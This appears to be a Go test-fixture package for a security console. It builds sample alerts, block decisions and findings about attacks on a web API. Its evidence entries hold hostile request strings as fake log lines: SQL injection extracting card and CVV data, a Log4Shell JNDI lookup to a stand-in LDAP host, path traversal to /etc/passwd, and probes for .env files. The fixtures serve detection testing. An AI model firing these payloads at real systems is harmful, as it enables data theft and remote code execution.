package consoletest

import (
	"fmt"
	"time"

	"github.com/portcullis/portcullis/dashboards/console"
	"github.com/portcullis/portcullis/detect"
	"github.com/portcullis/portcullis/detect/alert"
	"github.com/portcullis/portcullis/enforce"
	"github.com/portcullis/portcullis/ingest"
)

// Status is what the process says of itself at the end of the hour.
func Status(now time.Time) console.Status {
	return console.Status{
		Version: "0.1.0", Roles: []string{"collect", "detect", "enforce", "console"}, Started: now.Add(-53 * time.Hour),
		Enforcing: []string{"credential", "injection", "rate"}, Observing: []string{"api", "recon"},
		LinesPerSecond: 104.7, Lag: 180 * time.Millisecond, LagBytes: 2210, EventTime: now.Add(-180 * time.Millisecond),
		Tracked: 48213, Blocked: 4, Throttled: 1, Waiting: 1,
		Sources: []ingest.LedgerRow{
			{
				Source: "edge", Read: 18204711, Processed: 18204698, Rejected: 13, Bytes: 4 << 30, LagBytes: 2210, LastTime: now.UnixNano(),
				Reasons: map[string]int64{"bad_shape": 9, "too_long": 4},
			},
			{Source: "/var/log/nginx/admin.log", Read: 41877, Processed: 41877, Bytes: 9 << 20, LastTime: now.Add(-47 * time.Second).UnixNano()},
		},
		Blind: []detect.Blindness{{
			Source: "edge", Missing: []string{"tls_version", "tls_cipher"}, Blind: []string{"weak-tls"}, Half: []string{},
			Add: "add $ssl_protocol to log_format and say format: nginx:STRING",
		}},
		Gateways: []console.Gateway{{Name: "nginx", Entries: 5, PushedAt: now.Add(-41 * time.Second), Took: 74 * time.Millisecond, Changed: 1}},
	}
}

// Rules are the detectors of the little API.
func Rules() []console.Rule {
	rule := func(name, family, mode, doc string) console.Rule {
		return console.Rule{
			Name: name, Version: 1, Family: family, Doc: doc, Tags: Tags(name), By: "client", Needs: "status and client",
			State: "counters of the last minute", Evasion: "stays silent below its limit; slower rules cover that", Enabled: mode != "off", Mode: mode,
		}
	}
	return []console.Rule{
		rule("auth-burst", "credential", "enforce", "many refused logins by one client within a span"),
		rule("injection", "injection", "enforce", "a payload that makes the service do what it should not"),
		rule("rate-client", "rate", "enforce", "one client asks far more than it usually does"),
		rule("scanner", "recon", "observe", "paths and agents known from scanners"),
		rule("weak-tls", "api", "off", "old TLS between client and gateway"),
	}
}

// Costs are what they take of a line, in nanoseconds; one that is off takes nothing.
func Costs() map[string]float64 {
	return map[string]float64{"auth-burst": 3.4, "injection": 212.6, "rate-client": 18.1, "scanner": 41}
}

// Alerts are what people were told of the hour.
func Alerts(now time.Time) []alert.Alert {
	ago := func(d time.Duration) int64 { return now.Add(-d).UnixNano() }
	list := []alert.Alert{
		{
			ID: "a1", Rule: "auth-burst", Family: detect.Credential, Severity: detect.High, Route: "/login", Why: "312 refused logins for 288 accounts in 60 s",
			Subjects: []detect.Subject{{Kind: "ip", Value: "203.0.113.66"}}, Clients: 1, Findings: 3, Requests: 312, Opened: ago(9 * time.Minute), Heard: ago(time.Minute),
			Told: map[string]*alert.Delivery{"chat": {Count: 2}, "mail": {Count: 1, Error: "the server refused the sender"}},
		},
		{
			ID: "a2", Rule: "injection", Family: detect.Injection, Severity: detect.Critical, Why: "two requests that carry an attack, near certain",
			Subjects: []detect.Subject{{Kind: "ip", Value: "198.51.100.23"}}, Clients: 1, Findings: 1, Requests: 2, Opened: ago(40 * time.Minute), Heard: ago(30 * time.Minute),
		},
		{
			ID: "a3", Rule: "scanner", Family: detect.Recon, Severity: detect.Medium, Why: "paths that only scanners ask for", Muted: "silenced",
			Subjects: []detect.Subject{{Kind: "ip", Value: "192.0.2.50"}}, Clients: 1, Findings: 1, Requests: 44, Opened: ago(50 * time.Minute), Heard: ago(45 * time.Minute), Closed: ago(5 * time.Minute),
		},
	}
	for i := range list {
		a := &list[i]
		a.Key, a.First, a.Last, a.State = a.Rule, a.Opened, a.Heard, alert.Open
		if a.Closed != 0 {
			a.State = alert.Closed
		}
	}
	return list
}

// Decisions are at least one of each state that people see.
func Decisions(now time.Time) []enforce.Decision {
	ip := func(v string) detect.Subject { return detect.Subject{Kind: "ip", Value: v} }
	ago := func(d time.Duration) int64 { return now.Add(-d).UnixNano() }
	list := []enforce.Decision{
		{
			Subject: ip("203.0.113.66"), Action: enforce.Block, State: enforce.Verified, Rule: "auth-burst", Score: 11.4, Offence: 2,
			Why: "312 refused logins for 288 accounts in 60 s", Collateral: "nobody else known behind it", Created: ago(9 * time.Minute), Expires: ago(-51 * time.Minute),
		},
		{
			Subject: ip("198.51.100.77"), Action: enforce.Block, State: enforce.NotEnforced, Code: enforce.CodeWrongKey, Rule: "injection", Score: 19.8, Offence: 1,
			Reason: "14 of its requests were answered 200 since the push: the gateway sees another address (is real_ip set for this server block?)",
			Why:    "6 attempts of SQL injection on /orders/{id}, two answered 200", Collateral: "nobody else known behind it", Created: ago(41 * time.Second), Expires: ago(-9 * time.Minute),
		},
		{
			Subject: detect.Subject{Kind: "cidr", Value: "192.0.2.0/24"}, Action: enforce.Block, State: enforce.Proposed, Code: enforce.CodePeople, Rule: "auth-burst", Score: 8.1, Offence: 1,
			Reason: "more people stand behind it than guard.people_wait allows",
			Why:    "41 addresses of the network take turns at /login", Collateral: "about 61 people with 2,914 good requests in 24 h", People: 61, Good: 2914, Created: ago(3 * time.Minute), Expires: ago(-57 * time.Minute),
		},
		{
			Subject: ip("2001:db8:4f::9e1"), Action: enforce.Throttle, Rate: 2, Burst: 10, State: enforce.Verified, Rule: "rate-client", Score: 4.2, Offence: 1,
			Why: "94 requests a second, 31 times the usual of /products", Collateral: "about 4 people with 120 good requests in 24 h", People: 4, Good: 120, Created: ago(12 * time.Minute), Expires: ago(-4 * time.Minute),
		},
		{
			Subject: ip("203.0.113.9"), Action: enforce.Block, State: enforce.Verified, Rule: "scanner", Score: 10.3, Offence: 3,
			Why: "214 paths known from scanners, 98 % answered 404", Collateral: "nobody else known behind it", Created: ago(26 * time.Minute), Expires: ago(-23*time.Hour - 30*time.Minute),
		},
		{
			Subject: ip("198.51.100.200"), Action: enforce.Block, State: enforce.Pushed, Rule: "injection", Score: 12.1, Offence: 1,
			Why: "Log4Shell look-ups in the user agent", Collateral: "nobody else known behind it", Created: ago(6 * time.Second), Expires: ago(-10 * time.Minute),
		},
		{
			Subject: ip("192.0.2.201"), Action: enforce.Throttle, Rate: 2, Burst: 10, State: enforce.Proposed, Code: enforce.CodeObserve, Rule: "scanner", Score: 3.3, Offence: 1,
			Reason: "the family recon is only observed", Why: "12 probes for WordPress on a site that has none",
			Collateral: "one person with 44 good requests in 24 h", People: 1, Good: 44, Created: ago(31 * time.Minute), Expires: ago(-20 * time.Minute),
		},
		{
			Subject: ip("203.0.113.120"), Action: enforce.Block, State: enforce.Expired, Rule: "rate-client", Score: 7.4, Offence: 1,
			Reason: "its time was over", Why: "a flood of /search", Created: ago(5 * time.Hour), Expires: ago(4*time.Hour + 50*time.Minute),
		},
		{
			Subject: ip("192.0.2.31"), Action: enforce.Block, State: enforce.Released, Rule: "auth-burst", Score: 7.9, Offence: 1,
			Reason: "a user who forgot his password", Why: "24 refused logins in 60 s", Created: ago(26 * time.Hour), Expires: ago(25 * time.Hour),
		},
	}
	for i := range list {
		d := &list[i]
		d.ID, d.By = fmt.Sprintf("d%023x", i+1), "policy"
		if d.State != enforce.Proposed {
			d.Trigger, d.PushedAt, d.Checked = d.Created-int64(300*time.Millisecond), d.Created+int64(210*time.Millisecond), d.Created+int64(900*time.Millisecond)
		}
	}
	return list
}

type seen struct {
	rule     string
	family   detect.Family
	severity detect.Severity
	kind     string
	value    string
	ago      time.Duration
	count    int64
	route    string
	why      string
	standing detect.Standing
	lines    []detect.Evidence
}

func line(client, request string, status int, agent string) string {
	return fmt.Sprintf(`%s - - [04/Mar/2026:11:58:12 +0000] "%s" %d 612 "-" "%s"`, client, request, status, agent)
}

var found = []seen{
	{"injection", detect.Injection, detect.Critical, "ip", "198.51.100.77", 41 * time.Second, 6, "/orders/{id}",
		"6 attempts of SQL injection on /orders/{id}; 2 of them were answered 200 with 40 times the usual size", detect.Standing{},
		[]detect.Evidence{
			{Line: line("198.51.100.77", "GET /orders/4711%27%20UNION%20SELECT%20card,cvv,1%20FROM%20payments-- HTTP/1.1", 200, "Mozilla/5.0"), Note: "sqli in path: ' union select card,cvv,1 from payments--"},
			{Line: line("198.51.100.77", "GET /orders/4711%27%20OR%20%271%27=%271 HTTP/1.1", 200, "Mozilla/5.0"), Note: "sqli in path: ' or '1'='1"},
		}},
	{"injection", detect.Injection, detect.High, "ip", "198.51.100.200", 6 * time.Second, 3, "/search",
		"3 look-ups of the Log4Shell kind in the user agent", detect.Standing{},
		[]detect.Evidence{{Line: line("198.51.100.200", "GET /search?q=a HTTP/1.1", 200, "${jndi:ldap://203.0.113.250:1389/a}"), Note: "look-up ${jndi:ldap://…}, in the user agent"}}},
	{"auth-burst", detect.Credential, detect.High, "ip", "203.0.113.66", 9 * time.Minute, 312, "/login",
		"312 refused logins for 288 accounts within 60 s; a person manages about 5", detect.Standing{},
		[]detect.Evidence{
			{Line: line("203.0.113.66", "POST /login HTTP/1.1", 401, "python-requests/2.31"), Note: "refused login"},
			{Line: line("203.0.113.66", "POST /login HTTP/1.1", 401, "python-requests/2.31"), Note: "refused login"},
		}},
	{"auth-burst", detect.Credential, detect.Medium, "cidr", "192.0.2.0/24", 3 * time.Minute, 164, "/login",
		"41 addresses of the network take turns at /login: 164 refused logins in 10 min, each address below its own limit",
		detect.Standing{Successes: 2914, People: 61}, []detect.Evidence{{Line: line("192.0.2.14", "POST /login HTTP/1.1", 401, "Mozilla/5.0"), Note: "refused login"}}},
	{"rate-client", detect.Rate, detect.Medium, "ip", "2001:db8:4f::9e1", 12 * time.Minute, 5640, "/products",
		"94 requests a second over 60 s, 31 times what a client of /products usually sends",
		detect.Standing{Successes: 120, People: 4}, []detect.Evidence{{Line: line("2001:db8:4f::9e1", "GET /products?page=1882 HTTP/1.1", 200, "Go-http-client/2.0"), Note: ""}}},
	{"scanner", detect.Recon, detect.High, "ip", "203.0.113.9", 26 * time.Minute, 214, "",
		"214 paths known from scanners within 40 s, 98 % answered 404", detect.Standing{},
		[]detect.Evidence{
			{Line: line("203.0.113.9", "GET /.env HTTP/1.1", 404, "Nuclei - Open-source project"), Note: "sensitive file .env; agent of a scanner"},
			{Line: line("203.0.113.9", "GET /.git/config HTTP/1.1", 404, "Nuclei - Open-source project"), Note: "sensitive file .git/config"},
		}},
	{"injection", detect.Injection, detect.High, "ip", "203.0.113.44", 17 * time.Minute, 2, "/search",
		"2 attempts of cross-site scripting on /search", detect.Standing{Successes: 3, People: 1},
		[]detect.Evidence{{Line: line("203.0.113.44", "GET "+Hostile+" HTTP/1.1", 400, "curl/8.5"), Note: "xss in query.q: <script>document.title='owned'</script>"}}},
	{"scanner", detect.Recon, detect.Low, "ip", "192.0.2.201", 31 * time.Minute, 12, "",
		"12 probes for WordPress on a site that has none", detect.Standing{Successes: 44, People: 1},
		[]detect.Evidence{{Line: line("192.0.2.201", "GET /wp-login.php HTTP/1.1", 404, "Mozilla/5.0"), Note: "path known from scanners"}}},
	{"auth-burst", detect.Credential, detect.Critical, "account", "maria.jones@example.com", 22 * time.Minute, 41, "/login",
		"a login succeeded after 40 refused ones from three networks: the account may be taken over", detect.Standing{Successes: 210, People: 1},
		[]detect.Evidence{{Line: line("203.0.113.67", "POST /login HTTP/1.1", 200, "python-requests/2.31"), Note: "success after a run of failures"}}},
	{"rate-client", detect.Rate, detect.Low, "key", "k_7f3a91c2", 38 * time.Minute, 1810, "/api/export",
		"an API key asks for 30 exports a second", detect.Standing{Successes: 8801, People: 1},
		[]detect.Evidence{{Line: line("192.0.2.90", "GET "+long+" HTTP/1.1", 200, "export-job/1.4"), Note: ""}}},
	{"scanner", detect.Recon, detect.Info, "ip", "198.51.100.19", 44 * time.Minute, 3, "/docs",
		"3 requests for the API documentation from outside", detect.Standing{Successes: 12, People: 2},
		[]detect.Evidence{{Line: line("198.51.100.19", "GET /swagger/v1/swagger.json HTTP/1.1", 200, "Mozilla/5.0"), Note: "exposed API documentation"}}},
	{"injection", detect.Injection, detect.Medium, "ip", "198.51.100.140", 49 * time.Minute, 4, "/files/{name}",
		"4 attempts of path traversal on /files/{name}, all answered 400", detect.Standing{},
		[]detect.Evidence{{Line: line("198.51.100.140", "GET /files/..%252f..%252f..%252fetc%252fpasswd HTTP/1.1", 400, "curl/7.88"), Note: "lfi in path: ../../../etc/passwd"}}},
}

// Campaign is what several clients do together, within the hour before now.
func Campaign(now time.Time) detect.Finding {
	fired := now.Add(-9 * time.Minute).UnixNano()
	f := detect.Finding{
		Rule: "campaign", Version: 1, Family: detect.Credential, Severity: detect.High, Confidence: 0.9,
		Subject: detect.Subject{Kind: "campaign", Value: "credential on /login"}, Window: fired - int64(time.Hour),
		FirstSeen: fired - int64(40*time.Minute), LastSeen: fired, FiredAt: fired, Count: 476, Route: "/login",
		Why: "5 clients from 3 networks guess passwords at /login with python-requests: 476 refused logins within the hour",
	}
	var members []detect.Member
	for i, v := range []string{"203.0.113.66", "203.0.113.67", "192.0.2.14", "192.0.2.77", "198.51.100.3"} {
		members = append(members, detect.Member{Subject: detect.Subject{Kind: "ip", Value: v}, Score: 0.97 - 0.05*float64(i), Count: int64(312 / (i + 1))})
	}
	f.Members = detect.PackMembers(members)
	f.ID = detect.FindingID(f.Rule, f.Subject, f.Window)
	return f
}

// Findings are a dozen of all severities and kinds, some with hostile evidence.
func Findings(now time.Time) []detect.Finding {
	out := make([]detect.Finding, 0, len(found))
	for i, s := range found {
		fired := now.Add(-s.ago).UnixNano()
		f := detect.Finding{
			Rule: s.rule, Version: 1, Family: s.family, Severity: s.severity, Confidence: 0.7 + 0.02*float64(i),
			Subject: detect.Subject{Kind: s.kind, Value: s.value}, Window: fired - int64(time.Minute),
			FirstSeen: fired - int64(38*time.Second), LastSeen: fired + int64(2*time.Second), FiredAt: fired,
			Count: s.count, Why: s.why, Route: s.route, Standing: s.standing,
		}
		if f.Standing.Successes > 0 {
			f.Standing.Since = now.Add(-31 * time.Hour).UnixNano()
		}
		f.ID = detect.FindingID(f.Rule, f.Subject, f.Window)
		for j, e := range s.lines {
			e.Source, e.Offset, e.Time = "edge", 81_204_113+int64(i*9171+j*288), fired-int64(j)*int64(time.Second)
			if len(e.Line) > detect.EvidenceBytes {
				e.Line = e.Line[:detect.EvidenceBytes]
			}
			f.Evidence[j] = e
		}
		out = append(out, f)
	}
	return out
}
